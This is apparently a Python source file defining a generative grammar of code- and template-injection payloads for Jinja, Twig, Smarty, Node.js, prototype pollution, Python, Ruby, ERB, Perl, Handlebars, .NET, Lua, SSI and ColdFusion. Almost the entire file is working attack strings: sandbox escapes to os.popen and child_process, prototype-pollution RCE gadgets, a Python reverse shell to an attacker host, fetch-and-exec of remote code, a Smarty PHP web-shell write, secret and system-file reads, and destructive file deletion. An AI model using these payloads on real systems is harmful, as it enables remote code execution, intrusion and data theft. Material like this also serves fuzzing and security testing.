"""Code injection outside PHP and Java: Jinja, Twig, ERB, Handlebars, Node.js, Python, Ruby, Perl, Lua and more."""

TEXT = r"""
script_code := *7 «jinja» ¦ *3 «twig» ¦ *5 «node» ¦ *2 «proto» ¦ *4 «python» ¦ *2 «ruby» ¦ *2 «erb» ¦ «perl»
  ¦ *2 «handle» ¦ «smarty» ¦ «dotnet» ¦ *2 «mathprobe» ¦ «lua» ¦ «ssi» ¦ «coldfusion» ¦ «go_tpl»
mathprobe := *3 {{«int»*«int»}} ¦ *2 ${«int»*«int»} ¦ #{«int»*«int»} ¦ <%=«int»*«int»%> ¦ {{«int»+«int»}}
  ¦ {«int»*«int»} ¦ ${{«int»*«int»}} ¦ #set($x=«int»*«int»)${x} ¦ *{«int»*«int»} ¦ @(«int»*«int») ¦ {{=«int»*«int»}}
  ¦ {%«int»*«int»%} ¦ [[${«int»*«int»}]] ¦ {{{«int»*«int»}}} ¦ {{'«d»'*«small»}} ¦ ~{«int»*«int»} ¦ <%= «int» * «int» %>
  ¦ ${"«ab»".join("«abc»")} ¦ {{"«rand»".toUpperCase()}} ¦ {#«int»*«int»#} ¦ %{«int»*«int»} ¦ {{«int»|add:«int»}}
  ¦ ${{<%[%'"}}%\ ¦ {@«int»*«int»} ¦ «rand»{{«int»*«int»}}«rand» ¦ {{['«ab»']*«small»}} ¦ <#assign «ab»=«int»*«int»>
jinja := *2 {{«jinja_expr»}} ¦ *2 {{ «jinja_expr» }} ¦ {%print(«jinja_expr»)%}
  ¦ {% for «$c:ab» in [].__class__.__base__.__subclasses__() %}{% if «$c».__name__=='«=catch_warnings~Popen~_wrap_close~WarningMessage»' %}{{ «$c».__init__.__globals__['__builtins__'].«=eval~open~__import__»("«pyexpr»") }}{% endif %}{% endfor %}
  ¦ {%if «jinja_expr»%}«rand»{%endif%} ¦ {% set «$x:ab»=«jinja_expr» %}{{«$x»}} ¦ {{'«rand»'}}{{«jinja_expr»}}
  ¦ {% include '«unix_file»' %} ¦ {% import os %}{{os.popen("«unix_info»").read()}}
  ¦ {% import os %}{{os.system("«unix_cmd»")}} ¦ {% debug %} ¦ {{ settings.SECRET_KEY }}
  ¦ <%import os;x=os.popen('«unix_info»').read()%>${x} ¦ ${__import__("os").popen("«unix_info»").read()}
  ¦ ${self.module.cache.util.os.system("«unix_info»")}
  ¦ ${self.template.__init__.__globals__['os'].popen('«unix_info»').read()}
  ¦ {% load log %}{% get_admin_log 10 as log %} ¦ {%autoescape off%}{{«jinja_expr»}}{%endautoescape%}
  ¦ <%doc>«rand»</%doc>${«pyexpr»} ¦ {{handler.settings}} ¦ {% raw «rand» %} ¦ {% module Template("«word».html") %}
jinja_expr := *2 «int»*«int» ¦ config ¦ config.items() ¦ config.from_object('os')
  ¦ request.application.__globals__.__builtins__.__import__('os').popen('«unix_info»').read()
  ¦ *2 self.__init__.__globals__.__builtins__.__import__('os').popen('«unix_info»').read()
  ¦ *2 «jroot».__init__.__globals__.os.popen('«unix_info»').read()
  ¦ «jroot».__globals__['os'].popen("«unix_info»").read() ¦ lipsum.__globals__['os'].popen('«unix_info»').read()
  ¦ ''.__class__.__mro__[«small»].__subclasses__()
  ¦ ''.__class__.__base__.__subclasses__()[«int»]('«unix_info»',shell=True,stdout=-1).communicate()
  ¦ [].__class__.__bases__[0].__subclasses__()[«dd»]('«unix_file»').read() ¦ ().__class__.__bases__[0].__subclasses__()
  ¦ get_flashed_messages.__globals__.__builtins__.open("«unix_file»").read() ¦ url_for.__globals__['current_app'].config
  ¦ request|attr('application')|attr('\x5f\x5fglobals\x5f\x5f')|attr('\x5f\x5fgetitem\x5f\x5f')('\x5f\x5fbuiltins\x5f\x5f')
  ¦ (lipsum|attr("__glo"+"bals__")).os.popen("«unix_bin»").read() ¦ «jroot»['__cla'+'ss__'] ¦ request['__class__']
  ¦ request.environ ¦ g.pop.__globals__.__builtins__ ¦ dict.__base__.__subclasses__()
  ¦ config.__class__.__init__.__globals__['os'].popen('«unix_info»').read()
  ¦ joiner.__init__.__globals__.os.popen('«unix_info»').read() ¦ namespace.__init__.__globals__.os.system('«unix_cmd»')
  ¦ x.__init__.__builtins__.exec("«pycode»") ¦ self._TemplateReference__context.cycler.__init__.__globals__.os ¦ session
  ¦ app.__init__.__globals__.sys.modules ¦ 'a'.upper() ¦ range.constructor("return «node_expr»")()
  ¦ users|map(attribute='password')|list ¦ "%c%c"|format(«dd»,«dd») ¦ messages.storages.0.signer.key
jroot := *2 cycler ¦ joiner ¦ namespace ¦ *2 lipsum ¦ config ¦ request ¦ self ¦ url_for ¦ get_flashed_messages ¦ g
  ¦ session ¦ «word» ¦ "" ¦ [] ¦ () ¦ {} ¦ dict ¦ a
twig := *2 {{_self.env.registerUndefinedFilterCallback("«=exec~system~passthru~shell_exec»")}}{{_self.env.getFilter("«unix_info»")}}
  ¦ {{_self.env.setCache("ftp://«attacker»:«port»")}}{{_self.env.loadTemplate("«word»")}}
  ¦ @2019 *2 {{['«unix_info»']|filter('«=system~exec~passthru»')}}
  ¦ *2 {{['«unix_info»']|map('«=system~passthru»')|join}} ¦ {{['«unix_info»',0]|sort('system')}}
  ¦ {{[0,0]|reduce('system','«unix_info»')}} ¦ {{'«unix_file»'|file_excerpt(1,30)}}
  ¦ {{app.request.server.all|join(',')}} ¦ {{dump(app)}} ¦ {{_context|keys|join}}
  ¦ @2019 {{['cat«=\x20~${IFS}»«unix_file»']|filter('system')}} ¦ {{_self}}
  ¦ @2022 {% block U %}«unix_info»{% endblock %}{% set x=block('U')|split('|') %}{{[x|first]|map(x|last)|join}}
  ¦ {{include('«climb3»«app_file»')}} ¦ {{app.request.query.filter(0,0,1024,{'options':'«=system~passthru»'})}}
  ¦ {{ source('«unix_file»') }} ¦ {{ {'«ab»':'«unix_info»'}|find('system') }}
  ¦ {{constant('«coined|cap»::«word|upper»')}}
smarty := {system('«unix_info»')} ¦ {php}echo `«unix_info»`;{/php}
  ¦ {Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,"<?php passthru($_GET['«ab»']); ?>",self::clearConfig())}
  ¦ {$smarty.version} ¦ {$smarty.template_object->smarty->_getSmartyObj()->display('string:{system(«unix_bin»)}')}
  ¦ {if system('«unix_info»')}{/if} ¦ {function name='x(){};system(«unix_bin»);function '}{/function}
  ¦ {"«unix_info»"|system} ¦ {fetch file="«unix_file»"} ¦ {self::getStreamVariable("file://«unix_file»")}
  ¦ @2021 {math equation="(\"\\«oct»\")()"} ¦ {include_php file="«unix_file»"} ¦ {$«word»|passthru} ¦ {="`«unix_bin»`"}
  ¦ {eval var="«rand»"} ¦ {assign var="«ab»" value=`«unix_bin»`}
node := *2 «node_expr» ¦ *2 «node_break»«node_expr»«node_end» ¦ «node_expr»; ¦ (function(){return «node_expr»})()
  ¦ (()=>{«node_expr»})() ¦ new Function("return «node_expr»")() ¦ eval("«node_expr»")
  ¦ this.constructor.constructor("return process")().«=mainModule.require('child_process').execSync('id')~env~exit()~version~cwd()~binding('fs')»
  ¦ const «$p:ab»=this.constructor.constructor('return this.process')();«$p».mainModule.require('child_process').execSync('«unix_info»')
  ¦ _$$ND_FUNC$$_function(){«node_expr»}() ¦ {"rce":"_$$ND_FUNC$$_function (){«node_expr»}()"}
  ¦ res.end(require('fs').readFileSync('«unix_file»')) ¦ res.send(«node_expr»)
  ¦ setTimeout(function(){«node_expr»},«int») ¦ while(true){} ¦ console.log(«node_expr») ¦ ${«node_expr»}
  ¦ `${«node_expr»}` ¦ import('child_process').then(m=>m.exec('«unix_cmd»'))
  ¦ @2023 err=new Error();err.name={toString:new Proxy(()=>"",{apply(t,a,g){«node_expr»}})}
  ¦ async function «ab»(){await import('fs')} ¦ String.fromCharCode(«node_expr|codes»)
  ¦ Buffer.from('«node_expr|b64»','base64').toString() ¦ eval(Buffer.from("«node_expr|hex»","hex").toString())
  ¦ new (require('vm').Script)('«int»').runInThisContext() ¦ require('vm').runInNewContext("«node_expr»")
node_break := *2 '; ¦ ");«sp» ¦ '); ¦ }; ¦ ';«sp» ¦ '+ ¦ "+ ¦ 1; ¦ «word»; ¦ ]; ¦ });«sp»
node_end := ;// ¦ // ¦ ;' ¦ +' ¦ ;" ¦ +" ¦ ;/* ¦ })//
node_expr := *3 require('child_process').«cp_call» ¦ *2 global.process.mainModule.require('child_process').«cp_call»
  ¦ process.mainModule.require("child_process").«cp_call» ¦ require("child_process").«cp_call».toString()
  ¦ *2 require('fs').«fs_call»
  ¦ process.«=env~exit()~cwd()~version~kill(process.pid)~argv~pid~platform~memoryUsage()~binding('spawn_sync')~dlopen({})~mainModule.constructor._load('fs')»
  ¦ process.binding('spawn_sync').spawn({file:'/bin/sh',args:['sh','-c','«unix_info»'],stdio:[]})
  ¦ require('«=http~https»').get('«url»') ¦ require('os').«=hostname~userInfo~platform~networkInterfaces»()
  ¦ require('net').connect(«port»,'«attacker»') ¦ require('dns').lookup('«zone»',()=>{}) ¦ fetch('«url»')
  ¦ this.process.mainModule ¦ Object.keys(require.cache) ¦ constructor.constructor('return process')()
  ¦ global.require('«=fs~os~net~vm~http~cluster»') ¦ arguments.callee.caller
  ¦ module.constructor._load('child_process').«cp_call»
  ¦ process['main'+'Module']['req'+'uire']('child_'+'process').«cp_call» ¦ require('module')._load('child_process')
  ¦ «int»*«int» ¦ @2023 Bun.spawn(["«unix_bin»"]) ¦ @2020 Deno.run({cmd:["«unix_bin»"]})
  ¦ require("v8").setFlagsFromString('--«rand»') ¦ require(`child_process`)[`exec`+`Sync`](`«unix_info»`)
  ¦ @2024 globalThis.process.getBuiltinModule('child_process').«cp_call»
cp_call := *3 exec('«unix_cmd»') ¦ *3 execSync('«unix_info»') ¦ spawn('«unix_bin»',['«unix_file»'])
  ¦ spawnSync('«unix_bin»') ¦ execFile('«bin_dir»«unix_bin»') ¦ execFileSync('«unix_bin»',['-la'])
  ¦ fork('/tmp/«rand».js') ¦ exec("«unix_cmd»",function(e,s){res.end(s)}) ¦ execSync("«win_cmd»")
  ¦ execSync('«unix_info»',{encoding:'utf8'})
fs_call := readFileSync('«unix_file»') ¦ readFileSync('«unix_file»','utf-8') ¦ readdirSync('«unix_dir»')
  ¦ readdirSync('.').toString() ¦ writeFileSync('«web_root»/«rand».js','«rand»')
  ¦ readFile('«unix_file»',(e,d)=>res.send(d)) ¦ unlinkSync('«unix_file»') ¦ createReadStream('«unix_file»').pipe(res)
  ¦ existsSync('«unix_file»') ¦ statSync('«unix_file»') ¦ appendFileSync('/tmp/«rand»','«rand»')
  ¦ openSync('«unix_file»') ¦ symlinkSync('/','«rand»')
proto := *2 {"__proto__":{"«proto_key»":«proto_val»}} ¦ *2 __proto__[«proto_key»]=«rand» ¦ __proto__.«proto_key»=«rand»
  ¦ constructor[prototype][«proto_key»]=«rand» ¦ {"constructor":{"prototype":{"«proto_key»":«proto_val»}}}
  ¦ constructor.prototype.«proto_key» ¦ Object.prototype.«proto_key» = «proto_val»
  ¦ «word»[__proto__][«proto_key»]=«rand» ¦ ["__proto__"].«proto_key» ¦ {"__proto__.«proto_key»":«proto_val»}
  ¦ @2022 __proto__[outputFunctionName]=x;«node_expr»;x
  ¦ @2022 {"__proto__":{"client":1,"escapeFunction":"JSON.stringify; «node_expr»"}}
  ¦ {"__proto__":{"block":{"type":"Text","line":"«node_expr»"}}}
  ¦ @2022 {"__proto__":{"shell":"/proc/self/exe","argv0":"console.log(«node_expr»)//","NODE_OPTIONS":"--require /proc/self/cmdline"}}
  ¦ a.__defineGetter__('«word»',«ab») ¦ «word».__lookupGetter__('«word»')
  ¦ {"«word»":{"toString":{"constructor":"«rand»"}}} ¦ @2022 settings[view options][outputFunctionName]=x;«node_expr»;s
  ¦ Object.assign({},JSON.parse('{"__proto__":{"«proto_key»":«proto_val»}}')) ¦ __proto__[__proto__][«word»]
  ¦ Reflect.setPrototypeOf(«ab»,null)
proto_key := isAdmin ¦ admin ¦ polluted ¦ «rand» ¦ toString ¦ status ¦ env ¦ shell ¦ NODE_OPTIONS ¦ role
  ¦ outputFunctionName ¦ escapeFunction ¦ sourceURL ¦ type ¦ headers ¦ exposedHeaders ¦ «word» ¦ length ¦ execArgv
  ¦ onload ¦ innerHTML ¦ srcdoc ¦ json spaces ¦ parameterLimit ¦ body ¦ source ¦ main
proto_val := true ¦ 1 ¦ "«rand»" ¦ "--inspect=«attacker»:«port»" ¦ {"«word»":"«rand»"} ¦ «int» ¦ "«node_expr»"
  ¦ ["«rand»"] ¦ null ¦ "admin"
python := *3 «pyexpr» ¦ *2 «py_break»«pyexpr»«py_end» ¦ exec("«pycode»") ¦ «pycode» ¦ eval("«pyexpr»")
  ¦ eval(compile("«pycode»","<string>","exec")) ¦ exec(__import__('base64').b64decode('«pycode|b64»'))
  ¦ [x for x in ().__class__.__bases__[0].__subclasses__() if x.__name__=='«=Popen~catch_warnings~_wrap_close»'][0]()._module.__builtins__['__import__']('os').system('«unix_info»')
  ¦ (lambda:__import__('os').system('«unix_cmd»'))() ¦ {fmt.__globals__[«word|upper»]}
  ¦ {0.__class__.__init__.__globals__[CONFIG]} ¦ @exec«nl»@input«nl»class «ab»:0
  ¦ def «$f:abc»():«nl» import os«nl» return os.popen('«unix_info»').read()«nl»«$f»()
  ¦ class «coined|cap»(object):«nl» def __init__(self):«nl»  __import__('os').system('«unix_info»')
  ¦ @__import__('os').system«nl»@'«unix_info»'.format«nl»class x:pass ¦ print(«pyexpr»)
  ¦ assert __import__('os').system('«unix_info»') ¦ f"{«pyexpr»}" ¦ import pdb;pdb.set_trace()
  ¦ globals()['__builtins__'].__dict__['«=eval~exec~open»'] ¦ getattr(__import__('os'),'sys'+'tem')('«unix_info»')
  ¦ raise Exception(__import__('subprocess').check_output('«unix_info»',shell=True))
  ¦ __builtins__.__dict__['__impo'+'rt__']('o'+'s') ¦ {"code":"«pycode»"} ¦ sys.modules['os'].popen('«unix_info»')
  ¦ type('',(),{'__del__':lambda s:«pyexpr»})()
py_break := *2 '+ ¦ "+ ¦ '); ¦ ") or«sp» ¦ '=='' and«sp» ¦ «int»,«sp» ¦ '%( ¦ «nl» ¦ ]);«sp» ¦ 1) or«sp» ¦ ';
py_end := *2 +' ¦ +" ¦ # ¦ ;# ¦ «sp»or ' ¦ )# ¦ «nl» ¦ ,' ¦ .«word»
pyexpr := *3 __import__('os').system('«unix_info»') ¦ *3 __import__('os').popen('«unix_info»').read()
  ¦ *2 __import__('subprocess').«=check_output~getoutput~Popen~run~call»('«unix_info»',shell=True)
  ¦ os.system('«unix_cmd»') ¦ subprocess.«=Popen~run~call~check_output~getoutput»(["«unix_bin»","-c","«unix_info»"])
  ¦ open('«unix_file»').read() ¦ __import__('time').sleep(«tens») ¦ __import__('socket').gethostbyname('«zone»')
  ¦ __import__('urllib.request').request.urlopen('«url»') ¦ __import__('os').environ
  ¦ __import__('os').listdir('«unix_dir»') ¦ __import__('platform').«=uname~node~system»() ¦ str(«int»*«int»)
  ¦ «int»*«int» ¦ globals() ¦ locals() ¦ dir() ¦ vars() ¦ __import__('pty').spawn('/bin/sh')
  ¦ __import__('shutil').rmtree('/tmp/«rand»') ¦ compile('«pycode»','','exec')
  ¦ __import__('importlib').import_module('os') ¦ getattr(os,'popen')('«unix_bin»')
  ¦ __import__('hashlib').md5(b'«rand»').hexdigest() ¦ __import__('ctypes').CDLL(None).system(b'«unix_bin»')
  ¦ breakpoint()
pycode := import os;os.system('«unix_cmd»') ¦ import subprocess;subprocess.call('«unix_cmd»',shell=True)
  ¦ import socket,os,pty;s=socket.socket();s.connect(('«attacker»',«port»));os.dup2(s.fileno(),0);pty.spawn('/bin/sh')
  ¦ import urllib.request as u;exec(u.urlopen('«url»').read()) ¦ import time;time.sleep(«tens»)
  ¦ print(open('«unix_file»').read()) ¦ import os;print(os.popen('«unix_info»').read())
  ¦ from os import system;system('«unix_info»') ¦ raise Exception(«int»*«int») ¦ import requests;requests.get('«url»')
  ¦ print(«int»*«int»)
ruby := *2 `«unix_info»` ¦ *2 system('«unix_cmd»') ¦ exec("«unix_cmd»") ¦ %x(«unix_info») ¦ %x|«unix_info»|
  ¦ #{`«unix_info»`} ¦ #{system('«unix_info»')} ¦ #{%x(«unix_info»)}
  ¦ *2 Kernel.«=exec~system~open~fork~eval~sleep»("«unix_cmd»") ¦ IO.popen('«unix_info»').read ¦ IO.read('«unix_file»')
  ¦ File.«=read~open~delete~readlines~binread»('«unix_file»') ¦ Dir.«=entries~glob~pwd»('«unix_dir»')
  ¦ eval("«int»*«int»") ¦ send(:system,'«unix_info»') ¦ Process.«=spawn~fork~exec~kill»('«unix_bin»')
  ¦ open("|«unix_info»").read ¦ |«unix_info» ¦ require 'open3';Open3.capture2e('«unix_info»') ¦ PTY.spawn('«unix_bin»')
  ¦ TCPSocket.open('«attacker»',«port») ¦ Net::HTTP.get(URI('«url»')) ¦ Object.const_get(:Kernel).system('«unix_info»')
  ¦ ObjectSpace.each_object ¦ instance_eval{«ab»} ¦ ENV['«=SECRET_KEY_BASE~DATABASE_URL»']
  ¦ Rails.application.«=secrets~credentials».inspect ¦ ''.class.ancestors ¦ class_eval("«rand»")
  ¦ Marshal.load("«rand»") ¦ «word».constantize.new ¦ binding.irb ¦ __send__('eval','«int»*«int»')
erb := *2 <%=`«unix_info»`%> ¦ <%=system('«unix_info»')%> ¦ <%= %x(«unix_info») %> ¦ <%=File.open('«unix_file»').read%>
  ¦ <%=Dir.entries('«unix_dir»')%> ¦ <%=«int»*«int»%> ¦ <%=IO.popen('«unix_info»').readlines()%>
  ¦ <% require 'open3' %><% @a,@b,@c,@d=Open3.popen3('«unix_info»') %><%=@b.readline()%> ¦ <%= ENV.inspect %>
  ¦ <%= self.class.name %> ¦ <%= Rails.root %> ¦ #{7*«int»} ¦ = system('«unix_info»') ¦ - `«unix_info»`
  ¦ <%- «node_expr» %> ¦ <%= global.process.mainModule.require('child_process').execSync('«unix_info»') %>
  ¦ <%= render inline: "<%%= «int» %>" %>
perl := *2 system("«unix_cmd»") ¦ `«unix_info»`; ¦ ;system('«unix_info»'); ¦ eval{system('«unix_bin»')}
  ¦ qx/«unix_info»/ ¦ exec("«unix_cmd»"); ¦ open(F,"|«unix_info»") ¦ open(F,"«unix_file»");print <F>
  ¦ print `«unix_info»`; ¦ use Socket;socket(S,PF_INET,SOCK_STREAM,0) ¦ @{[ system "«unix_info»" ]}
  ¦ ${\(system('«unix_bin»'))} ¦ require LWP::UserAgent; ¦ |«unix_info»| ¦ use IO::«=File~Socket~Select»;
  ¦ (?{system('«unix_bin»')}) ¦ [% PERL %]system('«unix_info»')[% END %] ¦ $ENV{«=PATH~HOME»} ¦ @INC
  ¦ sprintf("%s",`«unix_bin»`) ¦ unpack("u",pack("H*","«hex16»"))
handle := {{#with "s" as |string|}}{{#with "e"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub "constructor")}}{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}{{this.push "return «node_expr»;"}}{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}
  ¦ #{root.process.mainModule.require('child_process').spawnSync('«unix_bin»',['«unix_file»']).stdout}
  ¦ - var x = root.process«nl»- x = x.mainModule.require«nl»- x = x('child_process')«nl»= x.exec('«unix_cmd»')
  ¦ {{= «node_expr» }}
  ¦ {{range.constructor("return global.process.mainModule.require('child_process').execSync('«unix_info»')")()}}
  ¦ <% «node_expr» %> ¦ <%- global.process.mainModule.require('child_process').execSync('«unix_info»') %>
  ¦ #{function(){localLoad=global.process.mainModule.constructor._load;sh=localLoad("child_process").exec('«unix_cmd»')}()}
  ¦ {{this.constructor.constructor("«node_expr»")()}} ¦ {{#each this}}{{@key}}{{/each}} ¦ {{lookup this "constructor"}}
  ¦ ${require('child_process').«cp_call»} ¦ {{$.constructor('«node_expr»')()}}
  ¦ {{cycler.constructor("return «node_expr»")()}} ¦ {"layout":"«climb3»«app_file»"} ¦ {{ _.template("«rand»") }}
  ¦ {^x}{«node_expr»}{/x}
dotnet := @(«int»+«int»)
  ¦ *2 @{System.Diagnostics.Process.Start("«=cmd.exe","/c whoami~/bin/sh","-c id~calc.exe~powershell»");}
  ¦ @System.IO.File.ReadAllText("C:/«win_path») ¦ <%System.Diagnostics.Process.Start("cmd.exe","/c «win_info»");%>
  ¦ new System.Diagnostics.Process() ¦ System.Reflection.Assembly.Load(Convert.FromBase64String("«b40»"))
  ¦ @Html.Raw(«int»*«int») ¦ typeof(System.Diagnostics.Process)
  ¦ "".GetType().Assembly.GetType("System.Diagnostics.Process") ¦ ${{[System.Diagnostics.Process]::Start("«unix_bin»")}}
  ¦ eval request("«ab»") ¦ <%eval request("«ab»")%> ¦ Response.Write(«int»*«int») ¦ response.write(«int»*«int»)
  ¦ '+response.write(«int»*«int»)+' ¦ CreateObject("WScript.Shell").Run("«win_info»")
  ¦ Server.CreateObject("WScript.Shell").exec("cmd.exe /c «win_info»") ¦ execute("response.write(«int»)")
  ¦ it.GetType().Assembly.DefinedTypes ¦ <script runat="server">«rand»</script>
lua := os.execute("«unix_info»") ¦ io.popen("«unix_info»"):read("*a") ¦ return io.popen('«unix_cmd»')
  ¦ local «$f:ab»=package.loadlib("/usr/lib/liblua5.1.so.0","luaopen_io") ¦ );os.execute('«unix_info»')--
  ¦ eval 'local io_l=package.loadlib("/usr/lib/x86_64-linux-gnu/liblua5.1.so.0","luaopen_io");local io=io_l();local f=io.popen("«unix_info»","r");return f:read("*a")' 0
  ¦ ]]os.execute("«unix_bin»")--[[ ¦ loadstring("«rand»")() ¦ require("io").open("«unix_file»"):read()
  ¦ "..os.execute("«unix_info»").."
ssi := <!--#exec cmd="«unix_info»"--> ¦ <!--#echo var="«=DATE_LOCAL~DOCUMENT_NAME~HTTP_USER_AGENT»"-->
  ¦ <!--#include file="«unix_file»"--> ¦ <!--#printenv--> ¦ <!--#exec cgi="/cgi-bin/«word».cgi"-->
  ¦ <esi:include src="«url»"/> ¦ <esi:debug/> ¦ <pre><!--#exec cmd="«unix_info»" --></pre>
  ¦ <esi:inline name="/«word»">«rand»</esi:inline> ¦ <esi:vars>$(HTTP_COOKIE)</esi:vars>
  ¦ <xsl:value-of select="php:function('system','«unix_info»')"/>
  ¦ <xsl:value-of select="rt:exec(rt:getRuntime(),'«unix_info»')" xmlns:rt="java.lang.Runtime"/>
coldfusion := <cfexecute name="«bin_dir»«unix_bin»" arguments="-la"></cfexecute> ¦ #evaluate("«rand»")#
  ¦ #createObject("java","java.lang.Runtime").getRuntime().exec("«java_cmd»")# ¦ <cfoutput>#«int»*«int»#</cfoutput>
  ¦ #server.coldfusion.productversion#
go_tpl := {{ . }} ¦ {{ printf "%s" "«rand»" }} ¦ {{ .System "«unix_info»" }}
  ¦ {{ define "T1" }}«rand»{{ end }}{{ template "T1" }} ¦ {{ (index .Request.Header "«word»") }}
  ¦ {{ .«coined|cap».«coined|cap» }} ¦ {{ env "«coined|upper»" }} ¦ {{ html "«rand»" }} ¦ {{ .Ctx.«coined|cap» }}
  ¦ << .«coined|cap» >>
"""  # noqa: E501
